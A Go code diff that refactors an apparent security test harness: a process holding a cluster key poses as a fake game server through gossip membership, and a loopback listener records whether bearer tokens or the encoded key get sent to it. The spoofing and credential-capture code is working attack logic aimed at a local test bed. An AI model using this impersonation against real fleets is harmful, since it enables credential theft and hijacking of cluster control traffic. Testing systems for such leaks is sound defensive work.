@@ -12,6 +12,7 @@ import (
 	"net"
 	"net/http"
 	"net/netip"
+	"slices"
 	"sync"
 	"time"
 
@@ -163,64 +164,16 @@ func poisonGossip(ctx context.Context, s *siege) (string, error) {
 
 // lureFleet has a process with the cluster key pose as a game server.
 func lureFleet(ctx context.Context, s *siege) (string, error) {
-	l, err := net.Listen("tcp", fleet.Loopback(0))
+	trap, err := openTrap()
 	if err != nil {
 		return "", err
 	}
-	var mu sync.Mutex
-	var heard []byte
-	conns := 0
-	var serving sync.WaitGroup
-	serving.Go(func() {
-		for {
-			c, err := l.Accept()
-			if err != nil {
-				return
-			}
-			serving.Go(func() {
-				defer c.Close()
-				b := make([]byte, 4096)
-				for {
-					_ = c.SetReadDeadline(time.Now().Add(2 * time.Second))
-					n, err := c.Read(b)
-					mu.Lock()
-					heard = append(heard, b[:n]...)
-					mu.Unlock()
-					if err != nil {
-						break
-					}
-				}
-				mu.Lock()
-				conns++
-				mu.Unlock()
-			})
-		}
-	})
-	defer func() { l.Close(); serving.Wait() }()
-	addr := netip.MustParseAddrPort(l.Addr().String())
-	g, err := membership.NewGossip(membership.Config{
-		Self: membership.Member{Name: "game-9", Role: membership.GameServer, State: membership.Draining, URL: "http://" + addr.String(), Peer: addr.String(), Port: int(addr.Port()), Links: proto.Versions{Newest: 7, Oldest: 7}},
-		Bind: fleet.Loopback(0), Seeds: []string{s.bed.site.addr["game-1"].Gossip}, Key: s.cluster, Cluster: "ringside",
-	})
+	defer trap.close()
+	leave, err := pose(ctx, s, trap.addr())
 	if err != nil {
 		return "", err
 	}
-	running, cancel := context.WithCancel(ctx)
-	var gossiping sync.WaitGroup
-	gossiping.Go(func() { _ = g.Run(running) })
-	defer func() { cancel(); gossiping.Wait() }()
-	err = until(ctx, 15*time.Second, "the liar is not seen, so this attack shows nothing", func() bool {
-		v, err := s.bed.api.fleet(ctx, redirecting)
-		for _, m := range v.Members {
-			if m.Name == "game-9" {
-				return err == nil
-			}
-		}
-		return false
-	})
-	if err != nil {
-		return "", err
-	}
+	defer leave()
 	token := "Authorization: Bearer " + s.bed.site.token
 	answers := map[string]int{}
 	for _, path := range []string{"/v1/fleet/servers/game-9/drain", "/v1/fleet/servers/game-9/undrain", "/v1/bans"} {
@@ -243,8 +196,7 @@ func lureFleet(ctx context.Context, s *siege) (string, error) {
 	if err := pauseFor(ctx, time.Second); err != nil { // polls come once a second
 		return "", err
 	}
-	mu.Lock()
-	defer mu.Unlock()
+	conns, heard := trap.caught()
 	encoded := base64.StdEncoding.EncodeToString(s.cluster)
 	found := contains(heard, s.bed.site.token, "Bearer", a.Ticket, encoded, "HTTP/1.1")
 	said, _ := json.Marshal(answers)
@@ -256,4 +208,95 @@ func lureFleet(ctx context.Context, s *siege) (string, error) {
 		return text, errors.New("nobody called it, so nothing is shown")
 	}
 	return text, nil
+}
+
+// pose has a process with the cluster key announce itself as game-9 at addr, and waits until it is seen.
+func pose(ctx context.Context, s *siege, addr netip.AddrPort) (leave func(), err error) {
+	g, err := membership.NewGossip(membership.Config{
+		Self: membership.Member{Name: "game-9", Role: membership.GameServer, State: membership.Draining, URL: "http://" + addr.String(), Peer: addr.String(), Port: int(addr.Port()), Links: proto.Versions{Newest: 7, Oldest: 7}},
+		Bind: fleet.Loopback(0), Seeds: []string{s.bed.site.addr["game-1"].Gossip}, Key: s.cluster, Cluster: "ringside",
+	})
+	if err != nil {
+		return nil, err
+	}
+	running, cancel := context.WithCancel(ctx)
+	var gossiping sync.WaitGroup
+	gossiping.Go(func() { _ = g.Run(running) })
+	leave = func() { cancel(); gossiping.Wait() }
+	err = until(ctx, 15*time.Second, "the liar is not seen, so this attack shows nothing", func() bool {
+		v, err := s.bed.api.fleet(ctx, redirecting)
+		for _, m := range v.Members {
+			if m.Name == "game-9" {
+				return err == nil
+			}
+		}
+		return false
+	})
+	if err != nil {
+		leave()
+	}
+	return leave, err
+}
+
+// trap is a listener that answers nothing and keeps what it hears.
+type trap struct {
+	listener net.Listener
+	serving  sync.WaitGroup
+
+	mu    sync.Mutex
+	heard []byte
+	conns int // that have ended
+}
+
+func openTrap() (*trap, error) {
+	l, err := net.Listen("tcp", fleet.Loopback(0))
+	if err != nil {
+		return nil, err
+	}
+	t := &trap{listener: l}
+	t.serving.Go(t.accept)
+	return t, nil
+}
+
+func (t *trap) addr() netip.AddrPort { return netip.MustParseAddrPort(t.listener.Addr().String()) }
+
+func (t *trap) accept() {
+	for {
+		c, err := t.listener.Accept()
+		if err != nil {
+			return
+		}
+		t.serving.Go(func() { t.listen(c) })
+	}
+}
+
+// listen hears a connection until it has said nothing for two seconds.
+func (t *trap) listen(c net.Conn) {
+	defer c.Close()
+	b := make([]byte, 4096)
+	for {
+		_ = c.SetReadDeadline(time.Now().Add(2 * time.Second))
+		n, err := c.Read(b)
+		t.mu.Lock()
+		t.heard = append(t.heard, b[:n]...)
+		if err != nil {
+			t.conns++
+		}
+		t.mu.Unlock()
+		if err != nil {
+			return
+		}
+	}
+}
+
+// caught gives how many connections came, and what they said.
+func (t *trap) caught() (conns int, heard []byte) {
+	t.mu.Lock()
+	defer t.mu.Unlock()
+	return t.conns, slices.Clone(t.heard)
+}
+
+func (t *trap) close() {
+	t.listener.Close()
+	t.serving.Wait()
 }
